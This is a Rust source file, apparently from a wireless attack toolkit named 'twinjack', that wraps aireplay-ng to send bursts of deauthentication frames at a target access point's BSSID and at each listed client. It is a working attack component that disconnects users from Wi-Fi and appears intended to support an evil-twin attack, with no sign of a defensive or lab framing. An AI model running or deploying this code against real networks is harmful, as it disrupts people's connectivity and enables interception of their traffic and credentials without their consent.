//! Deauthentication bursts via the aircrack-ng tooling.

use std::process::Command;

use anyhow::{bail, Context};
use tracing::debug;

use twinjack_core::runner::DeauthSender;
use twinjack_core::types::TargetAp;

/// One `aireplay-ng --deauth` invocation per burst. The interface must
/// already be in monitor mode on the target channel.
pub struct AireplaySender {
    binary: String,
    frames_per_burst: u32,
}

impl Default for AireplaySender {
    fn default() -> Self {
        Self {
            binary: "aireplay-ng".to_string(),
            frames_per_burst: 5,
        }
    }
}

impl AireplaySender {
    pub fn new() -> Self {
        Self::default()
    }

    fn run_burst(&self, interface: &str, bssid: &str, client: Option<&str>) -> anyhow::Result<()> {
        let count = self.frames_per_burst.to_string();
        let mut args = vec!["--deauth", &count, "-a", bssid];
        if let Some(client) = client {
            args.push("-c");
            args.push(client);
        }
        args.push(interface);

        debug!(?args, "aireplay-ng");
        let output = Command::new(&self.binary)
            .args(&args)
            .output()
            .with_context(|| format!("running {}", self.binary))?;
        if !output.status.success() {
            bail!(
                "{} failed: {}",
                self.binary,
                String::from_utf8_lossy(&output.stderr).trim()
            );
        }
        Ok(())
    }
}

impl DeauthSender for AireplaySender {
    fn send_burst(
        &self,
        interface: &str,
        target: &TargetAp,
        clients: &[String],
    ) -> anyhow::Result<()> {
        if clients.is_empty() {
            return self.run_burst(interface, &target.bssid, None);
        }
        for client in clients {
            self.run_burst(interface, &target.bssid, Some(client))?;
        }
        Ok(())
    }
}
